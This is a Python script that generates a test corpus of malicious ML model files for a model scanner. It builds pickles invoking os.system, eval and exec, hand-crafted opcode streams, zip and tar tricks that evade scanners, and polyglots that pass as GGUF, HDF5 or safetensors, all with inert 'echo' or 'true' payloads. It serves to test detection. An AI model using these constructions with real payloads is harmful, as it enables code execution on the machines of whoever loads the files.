"""Rebuilds the sample CLASSES of the public malicious-model corpora (picklescan's tests/data and
advisories, modelscan's, fickling's and modelaudit's test models) with the producers their authors
used: Python's pickle, zipfile, tarfile, gzip/bz2/lzma/zlib, NumPy, joblib, h5py, py7zr. No file of
those corpora is copied: each sample here is generated afresh from the class it stands for.

Writes OUT_DIR/<id>/<file> (the sample under its own name) and, beside it, OUT_DIR/<id>/kit.tar (the
sample inside a tar as `kit pack` writes a model layer: path relative to the context, uid 1000,
gid 0, no times). Prints a JSON list of {id, file, source, what} on stdout.

Every payload is harmless if run by mistake (`echo` or `true`), but none is ever loaded here."""
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import struct
import sys
import tarfile
import types
import zipfile
import zlib

import h5py
import joblib
import numpy as np
import py7zr

OUT = sys.argv[1]
CMD = "echo modelgate-corpus"
CODE = "__import__('os').system('true')"
samples = []


def add(sid, name, data, source, what, ambiguous=False):
    """ambiguous: a container two consumers read differently, which may be refused as such."""
    d = os.path.join(OUT, sid)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data)
    samples.append({"id": sid, "file": name, "source": source, "what": what, **({"ambiguous": True} if ambiguous else {})})


def fake_global(qualified):
    """An object that pickles as GLOBAL/STACK_GLOBAL `module qualname` without importing the module
    (torch and other third-party callables named by advisories): a stand-in module is registered in
    sys.modules for the time of the dump."""
    module, _, qualname = qualified.partition(":")
    parts = module.split(".")
    for n in range(1, len(parts) + 1):  # the import system wants every parent package too
        name = ".".join(parts[:n])
        if name not in sys.modules:
            sys.modules[name] = types.ModuleType(name)
    mod = sys.modules[module]
    parent = mod
    parts = qualname.split(".")
    for p in parts[:-1]:
        if not hasattr(parent, p):
            setattr(parent, p, type(p, (), {"__module__": module, "__qualname__": p}))
        parent = getattr(parent, p)

    def fn(*a, **k):
        return None

    fn.__module__ = module
    fn.__qualname__ = qualname
    fn.__name__ = parts[-1]
    setattr(parent, parts[-1], fn)
    return fn


class Call:
    """Pickles as `func(*args)` (a REDUCE of a global), the way every corpus builds its payloads."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def dumps(obj, protocol=4):
    return pickle.dumps(obj, protocol=protocol)


# ---- Pickle encodings and protocols (picklescan malicious1/2_v0..v4, fickling's protocol 0-5 tests).
for proto in range(6):
    add(f"system-p{proto}", f"malicious-p{proto}.pkl", dumps(Call(os.system, CMD), proto),
        "picklescan malicious2_v*, fickling test_attack_vectors", f"os.system via REDUCE, protocol {proto}")
add("eval-p0", "malicious1_v0.pkl", dumps(Call(eval, CODE), 0), "picklescan malicious1_v0", "builtins eval, protocol 0")
add("exec-p3", "exec.pkl", dumps(Call(exec, CODE), 3), "picklescan broken/exec, modelaudit", "builtins exec, protocol 3")

# Callables the advisories name (stdlib ones are real; third-party ones are stand-ins of the same name).
import bdb
import cProfile
import code
import runpy
import socket
import subprocess
import timeit
import webbrowser

stdlib_calls = {
    "subprocess-run": (subprocess.run, (["true"],), "picklescan malicious8 (subprocess.run)"),
    "runpy-run-code": (runpy._run_code, (CODE, {}), "picklescan malicious14 (runpy._run_code)"),
    "webbrowser-open": (webbrowser.open, ("https://example.invalid",), "modelaudit test_webbrowser"),
    "socket-connect": (socket.create_connection, (("127.0.0.1", 9),), "picklescan malicious7"),
    "bdb-run": (bdb.Bdb.run, (bdb.Bdb(), CODE), "picklescan malicious15 (bdb.Bdb.run, getattr chain)"),
    "cprofile-run": (cProfile.run, (CODE,), "picklescan GHSA-49gj-c84q-6qm9"),
    "timeit": (timeit.timeit, ("", CODE), "picklescan malicious21 (timeit.timeit)"),
    "interactive-runcode": (code.InteractiveInterpreter.runcode, (code.InteractiveInterpreter(), CODE),
                            "picklescan GHSA-cj3c-v495-4xqh"),
}
for sid, (func, args, src) in stdlib_calls.items():
    try:
        data = dumps(Call(func, *args))
    except Exception:  # an argument that does not pickle: the call with no argument is enough
        data = dumps(Call(func))
    add(sid, f"{sid}.pkl", data, src, f"{func.__module__}.{func.__qualname__}")
add("pickle-loads-nested", "nested.pkl", dumps(Call(pickle.loads, dumps(Call(os.system, CMD), 0)), 4),
    "picklescan malicious13 (pickle.loads of an inner pickle)", "_pickle.loads of a nested payload")

# ---- Hand-assembled opcode streams (what a pickler never writes but CPython's unpickler runs).
def sbu(s):
    b = s.encode()
    return pickle.SHORT_BINUNICODE + bytes([len(b)]) + b


g_system = b"cos\nsystem\n"
add("inst-p0", "inst.pkl", b"(S'" + CMD.encode() + b"'\nios\nsystem\n.", "picklescan malicious10", "INST opcode")
add("obj-p1", "obj.pkl", b"(" + g_system + b"S'" + CMD.encode() + b"'\no.", "CPython load_obj", "OBJ opcode calls a global")
# STACK_GLOBAL from memo without PROTO (picklescan malicious11, the Safe Pickle CTF).
memo_sg = (b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0g2\ng3\n" + pickle.STACK_GLOBAL + b"(V" + CMD.encode()
           + b"\ntR.")
add("stack-global-memo", "memo.pkl", memo_sg, "picklescan malicious11", "STACK_GLOBAL via memo, no PROTO")
add("trailing-junk", "junk-after.pkl", memo_sg + b"\n\n\t\t\x00\xff", "picklescan malicious-invalid-bytes",
    "junk after STOP")
# Protocol-2+ opcodes with no PROTO header, and extra stack items at STOP.
add("no-proto-binary", "noproto.pkl", g_system + sbu(CMD) + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP,
    "issue 10 class 4", "binary opcodes, no PROTO")
add("extra-stack", "extra.pkl", pickle.PROTO + b"\x04" + pickle.NONE + pickle.NONE + sbu("os") + sbu("system")
    + pickle.STACK_GLOBAL + sbu(CMD) + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP, "issue 10 class 4",
    "extra items on the stack at STOP")
add("nop-prefix", "noprefix.pkl", b"N0" * 64 + dumps(Call(os.system, CMD), 2)[2:], "picklescan header checks",
    "harmless opcodes before the payload, no leading 0x80")
add("no-stop", "truncated.pkl", b"cbuiltins\nexec\n(X" + struct.pack("<I", len(CODE)) + CODE.encode() + b"tR\xff",
    "picklescan broken_model", "exec runs before the stream breaks (no STOP)")
add("memo-keyerror", "keyerror.pkl", pickle.PROTO + b"\x04" + g_system + sbu(CMD) + pickle.TUPLE1 + pickle.REDUCE
    + pickle.POP + sbu("os") + pickle.MEMOIZE + pickle.BINGET + b"\x03" + pickle.STACK_GLOBAL + pickle.STOP,
    "picklescan keyerror-exploit", "payload runs before an invalid memo read")
add("string-stack-global", "strsg.pkl", b"S'os'\nS'system'\n" + pickle.STACK_GLOBAL + b"S'" + CMD.encode()
    + b"'\n" + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP, "picklescan GHSA-9gvj-pp9x-gcfr", "STACK_GLOBAL on STRINGs")
# builtins.getattr(builtins.__import__('os'), 'system') via memo (picklescan malicious12).
getattr_chain = (pickle.PROTO + b"\x04" + sbu("builtins") + sbu("getattr") + pickle.STACK_GLOBAL + pickle.MEMOIZE
                 + sbu("builtins") + sbu("__import__") + pickle.STACK_GLOBAL + sbu("os") + pickle.TUPLE1
                 + pickle.REDUCE + sbu("system") + pickle.TUPLE2 + pickle.REDUCE + sbu(CMD) + pickle.TUPLE1
                 + pickle.REDUCE + pickle.STOP)
add("getattr-import", "getattr.pkl", getattr_chain, "picklescan malicious12", "builtins.getattr + __import__")
# Two pickles back to back: the first benign (numpy.load / a legacy torch.load reads on).
add("concatenated", "two.pkl", dumps(["a", "b"], 2) + dumps(Call(os.system, CMD), 4), "picklescan malicious6",
    "benign pickle then a malicious one")
add("legacy-torch", "legacy.pt", dumps(0x1950A86A20F9469CFC6C, 2) + dumps(1001, 2) + dumps({"little_endian": True}, 2)
    + dumps(Call(os.system, CMD), 2), "picklescan pytorch_magic_bypass", "legacy torch.save stream")

# Third-party callables named by advisories (stand-ins with the same module and name).
for sid, qual, src in [
    ("torch-collect-env", "torch.utils.collect_env:run", "picklescan GHSA-f745-w6jp-hpxx"),
    ("torch-bottleneck", "torch.utils.bottleneck.__main__:run_cprofile", "picklescan GHSA-4r9r-ch6f-vxmx"),
    ("torch-load-partial", "torch:load", "picklescan malicious19"),
    ("numpy-runstring", "numpy.testing._private.utils:runstring", "picklescan malicious22"),
    ("pip-main", "pip:main", "picklescan malicious16"),
]:
    add(sid, f"{sid}.pkl", dumps(Call(fake_global(qual), CODE), 4), src, qual)

# ---- PyTorch zips (torch.save's layout: stored members under archive/).
def torch_zip(entries, pkl_name="archive/data.pkl", payload=None):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(pkl_name, payload if payload is not None else dumps(Call(os.system, CMD), 2))
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/data/0", b"\0" * 16)
        z.writestr("archive/version", "3\n")
        for n, d in entries:
            z.writestr(n, d)
    return buf.getvalue()


add("torch-zip", "pytorch_model.bin", torch_zip([]), "picklescan pytorch_model.bin", "torch zip, data.pkl")
add("torch-zip-renamed", "model.pt", torch_zip([], "archive/weights.dat"), "picklescan malicious1_wrong_ext",
    "torch zip, pickle under a non-pickle name")
add("zip-txt-member", "archive.zip", torch_zip([], "data.txt"), "picklescan malicious1_wrong_ext.zip",
    "zip member data.txt holds a pickle")
add("zip-json-member", "bundle.zip", torch_zip([], "model/config.json"), "issue 10 class 5",
    "zip member config.json holds a pickle")
benign = io.BytesIO()
with zipfile.ZipFile(benign, "w") as z:
    z.writestr("weights/raw.bin", b"\0" * 64)
add("zip-two-eocd", "two-eocd.zip", benign.getvalue() + torch_zip([]), "issue 10 class 5",
    "two end records: Python's zipfile and miniz read the last", ambiguous=True)
tz = bytearray(torch_zip([]))
i = tz.find(b"archive/data.pkl")
tz[i:i + 16] = b"archive/datap.kl"  # the local header's name differs from the central directory's
add("zip-name-mismatch", "cdmismatch.pt", bytes(tz), "picklescan malicious1_central_directory", "local/central names differ",
    ambiguous=True)
crc = bytearray(torch_zip([]))
j = crc.find(CMD.encode())
crc[j] = ord("E")  # CRC no longer matches: readers that stream the member still unpickle it
add("zip-bad-crc", "badcrc.pt", bytes(crc), "picklescan malicious1_crc", "CRC mismatch")
fl = bytearray(torch_zip([]))
for sig, off in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
    k = fl.find(sig)
    fl[k + off] |= 0x01  # the 'encrypted' flag: picklescan's zipfile refused it, miniz ignores it
add("zip-flag-bits", "flags.pt", bytes(fl), "picklescan malicious1_0x1", "general-purpose flag bits set")
dz = io.BytesIO()
with zipfile.ZipFile(dz, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr("archive/data.pkl", dumps(Call(os.system, CMD), 2))
    z.writestr("archive/version", "3\n")
add("zip-deflated", "deflated.pt", dz.getvalue(), "modelaudit zip scanner", "deflated data.pkl")
# TorchScript (torch.jit.save): code/ with Python source, constants.pkl, data.pkl.
ts = io.BytesIO()
with zipfile.ZipFile(ts, "w", zipfile.ZIP_STORED) as z:
    z.writestr("model/code/__torch__/model.py", "def forward(self, x):\n    return x\n")
    z.writestr("model/data.pkl", dumps(Call(fake_global("__torch__.model:Model")), 2))
    z.writestr("model/constants.pkl", dumps((), 2))
    z.writestr("model/version", "6\n")
add("torchscript", "model.ptl", ts.getvalue(), "modelaudit TorchScript, fickling", "TorchScript archive")
# fickling's PyTorch injection: a payload prepended inside an existing checkpoint's data.pkl.
inj = pickle.PROTO + b"\x02" + g_system + sbu(CMD) + pickle.TUPLE1 + pickle.REDUCE + pickle.POP + dumps({"w": 1}, 2)[2:]
add("fickling-inject", "injected.pth", torch_zip([], payload=inj), "fickling pytorch inject", "payload injected into data.pkl")
# A TorchServe-style archive: a zip of Python code and a checkpoint.
mar = io.BytesIO()
with zipfile.ZipFile(mar, "w") as z:
    z.writestr("handler.py", "import os\nos.system('true')\n")
    z.writestr("MAR-INF/MANIFEST.json", json.dumps({"model": {"handler": "handler.py"}}))
add("torchserve-mar", "model.mar", mar.getvalue(), "modelaudit mar scanner", "zip of Python code")

# ---- NumPy (picklescan object_array / dns_exfiltration, modelscan numpy).
def npy_bytes(arr):
    b = io.BytesIO()
    np.save(b, arr, allow_pickle=True)
    return b.getvalue()


obj = np.empty((2,), dtype=object)
obj[:] = [(1, 2), (3, 4)]
add("npy-object", "object_array.npy", npy_bytes(obj), "picklescan object_array.npy", "object array (pickle after header)")
add("npy-payload", "payload.npy", npy_bytes(np.array([Call(os.system, CMD)], dtype=object)),
    "picklescan dns_exfiltration.npy", "object array of a payload")
hdr = '{"descr": "|O", "fortran_order": False, "shape": (1,), }'
hdr += " " * (63 - (10 + len(hdr)) % 64) + "\n"
add("npy-dquote", "dquote.npy", b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr.encode("latin1")
    + dumps([Call(os.system, CMD)], 3), "issue 10 class 5", "header with double quotes and 'O'")
for sid, saver in (("npz-object", np.savez), ("npz-object-compressed", np.savez_compressed)):
    b = io.BytesIO()
    saver(b, a=np.array([0, 1], dtype=object), b=np.array([Call(os.system, CMD)], dtype=object))
    add(sid, f"{sid}.npz", b.getvalue(), "picklescan object_arrays(.compressed).npz", "npz with object members")

# ---- joblib (scikit-learn models): plain, zlib as joblib writes it, lzma-alone, gzip.
for sid, comp in (("joblib", 0), ("joblib-zlib", ("zlib", 3)), ("joblib-lzma", ("lzma", 3)), ("joblib-gzip", ("gzip", 3))):
    b = io.BytesIO()
    joblib.dump({"model": Call(os.system, CMD), "coef": np.arange(4.0)}, b, compress=comp)
    add(sid, f"model.{sid}", b.getvalue(), "modelscan/modelaudit joblib", f"joblib.dump compress={comp}")
# Compressed pickles as pandas.read_pickle and friends open them.
raw = dumps(Call(os.system, CMD), 4)
add("pickle-gzip", "model.pkl.gz", gzip.compress(raw, mtime=0), "modelaudit compressed pickles", "gzip")
add("pickle-bz2", "model.pkl.bz2", bz2.compress(raw), "modelaudit compressed pickles", "bzip2")
add("pickle-xz", "model.pkl.xz", lzma.compress(raw), "modelaudit compressed pickles", "xz")
add("pickle-zlib", "model.pkl.z", zlib.compress(raw), "issue 10 class 5", "raw zlib stream")

# ---- Keras (modelscan: Lambda layers with marshalled bytecode).
lambda_layer = {"class_name": "Lambda", "config": {"name": "lambda", "function": {
    "class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMEAAAAfABTAKkBTqkAKQHaAXhyAgAAAHICAAAA+gE8/wEAAAA=",
                                          "defaults": None, "closure": None}}}}
keras_config = {"class_name": "Sequential", "config": {"name": "seq", "layers": [
    {"class_name": "InputLayer", "config": {"batch_shape": [None, 2], "name": "in"}}, lambda_layer]}}
h5 = io.BytesIO()
with h5py.File(h5, "w") as f:
    f.attrs["model_config"] = json.dumps(keras_config)
    f.attrs["keras_version"] = "2.15.0"
    f.attrs["backend"] = "tensorflow"
    f.create_group("model_weights")
add("keras-h5-lambda", "model.h5", h5.getvalue(), "modelscan keras_h5 Lambda", "HDF5 Keras model with a Lambda layer")
kv3 = io.BytesIO()
with zipfile.ZipFile(kv3, "w") as z:
    z.writestr("metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2025-01-01@00:00:00"}))
    z.writestr("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": keras_config["config"]}))
    w = io.BytesIO()
    with h5py.File(w, "w") as f:
        f.create_group("layers")
    z.writestr("model.weights.h5", w.getvalue())
add("keras-v3-lambda", "model.keras", kv3.getvalue(), "modelscan keras v3 Lambda", ".keras zip with a Lambda layer")
# TensorFlow SavedModel graph with file ops (modelscan's ReadFile/WriteFile): an unknown protobuf.
def pb_field(num, data):
    return bytes([(num << 3) | 2, len(data)]) + data


node = pb_field(1, b"read") + pb_field(2, b"ReadFile")
add("tf-savedmodel-ops", "saved_model.pb", pb_field(2, pb_field(1, pb_field(1, node))),
    "modelscan saved_model ReadFile/WriteFile", "SavedModel protobuf naming file ops")

# ---- Other archives.
p7 = io.BytesIO()
with py7zr.SevenZipFile(p7, "w") as a:
    a.writef(io.BytesIO(dumps(Call(eval, CODE), 4)), "data.pkl")
add("7z", "malicious1.7z", p7.getvalue(), "picklescan malicious1.7z", "7z archive with data.pkl")


def tar_of(members, fmt=tarfile.USTAR_FORMAT, typeflags=None):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=fmt) as t:
        for n, d in members:
            info = tarfile.TarInfo(n)
            info.size = len(d)
            if typeflags and n in typeflags:
                info.type = typeflags[n]
            t.addfile(info, io.BytesIO(d))
    return b.getvalue()


add("tar-pickle", "model.tar", tar_of([("model/config.json", b"{}"), ("model/data.pkl", raw)]),
    "modelaudit tar scanner", "tar with a pickle")
add("tar-json-name", "weights.tar", tar_of([("config.json", raw)]), "issue 10 class 2", "pickle named config.json in a tar")
add("tar-unknown-type", "odd.tar", tar_of([("model/weights.bin", raw)], typeflags={"model/weights.bin": b"Z"}),
    "issue 10 class 5", "unknown typeflag, extracted by Python as a file")
inner_zip = torch_zip([])
add("tar-zip-nested", "nested.tar.gz", gzip.compress(tar_of([("ckpt/weights.zip", inner_zip)]), mtime=0),
    "modelaudit nested archives", "tar.gz > zip > data.pkl")

# ---- Polyglots: bytes that another format's magic claims, and that pickle.load runs.
gg = b"G" + b"GUF" + struct.pack("<I", 3) + b"N" + b"0N0N0N0" + dumps(Call(os.system, CMD), 2)[2:]
add("polyglot-gguf", "gguf.pkl", gg, "issue 10 class 3", "GGUF magic, BINFLOAT swallows the header")
h5poly = io.BytesIO()
with h5py.File(h5poly, "w", userblock_size=512) as f:
    f.create_dataset("w", data=np.arange(4, dtype="f4"))
hb = bytearray(h5poly.getvalue())
p = dumps(Call(os.system, CMD), 2)
hb[0:len(p)] = p  # the HDF5 user block is free for anything: the superblock sits at 512
add("polyglot-hdf5", "h5poly.pkl", bytes(hb), "issue 10 class 3", "pickle in the HDF5 user block")
tar_name = (b"cos\nsystem\n(S'" + CMD.encode() + b"'\ntR.")
tb = io.BytesIO()
with tarfile.open(fileobj=tb, mode="w", format=tarfile.USTAR_FORMAT, encoding="latin1") as t:
    info = tarfile.TarInfo(tar_name.decode("latin1"))
    info.size = 4
    t.addfile(info, io.BytesIO(b"data"))
add("polyglot-tar", "tarpoly.pkl", tb.getvalue(), "issue 10 class 3", "a tar whose first member name is a pickle")
st = b"C\x07" + b"\0" * 6 + b"{" + dumps(Call(os.system, CMD), 0) + b" " * 1900
add("polyglot-safetensors", "stpoly.pkl", st, "issue 10 class 3", "safetensors-like length and '{', pickle opcodes")
zp = dumps(Call(os.system, CMD), 4) + torch_zip([], payload=dumps({"w": 1}, 2))
add("polyglot-pickle-zip", "pkzip.bin", zp, "fickling polyglots", "a pickle that is also a zip (zip at the end)",
    ambiguous=True)

for m in list(sys.modules):
    if m.startswith(("torch", "__torch__", "pip")) and not hasattr(sys.modules[m], "__file__"):
        del sys.modules[m]

# Self-check: each pickle stream reaches an import when CPython's unpickler reads it from byte 0
# (find_class is stopped there, nothing runs), and each polyglot opens as the other format too.
class Reached(Exception):
    pass


class Stop(pickle.Unpickler):
    def find_class(self, module, name):
        raise Reached(f"{module}.{name}")


def reaches_import(data, loads=1):
    f = io.BytesIO(data)
    try:
        for _ in range(loads):
            Stop(f).load()
    except Reached:
        return True
    except Exception:
        return False
    return False


LOADS = {"concatenated": 2, "legacy-torch": 4}
for s in samples:
    if s["file"].endswith((".pkl", ".pickle")) or s["id"] in LOADS or s["id"].startswith("polyglot"):
        with open(os.path.join(OUT, s["id"], s["file"]), "rb") as f:
            assert reaches_import(f.read(), LOADS.get(s["id"], 1)), s["id"]
h5py.File(io.BytesIO(bytes(hb)), "r").close()
with open(os.path.join(OUT, "npy-dquote", "dquote.npy"), "rb") as f:
    assert np.lib.format.read_magic(f) == (1, 0)
    assert np.lib.format.read_array_header_1_0(f)[2] == np.dtype(object)
    assert reaches_import(f.read())
tarfile.open(fileobj=io.BytesIO(tb.getvalue())).getmembers()
zipfile.ZipFile(io.BytesIO(zp)).namelist()
assert zipfile.ZipFile(io.BytesIO(benign.getvalue() + torch_zip([]))).namelist()[0] == "archive/data.pkl"

# Each sample inside a tar as `kit pack` writes a model layer for `model: {path: <file>}`.
for s in samples:
    d = os.path.join(OUT, s["id"])
    with open(os.path.join(d, s["file"]), "rb") as f:
        data = f.read()
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w", format=tarfile.USTAR_FORMAT) as t:
        info = tarfile.TarInfo(s["file"])
        info.size, info.mode, info.uid, info.gid, info.mtime = len(data), 0o644, 1000, 0, 0
        t.addfile(info, io.BytesIO(data))
    with open(os.path.join(d, "kit.tar"), "wb") as f:
        f.write(b.getvalue())

print(json.dumps(samples))
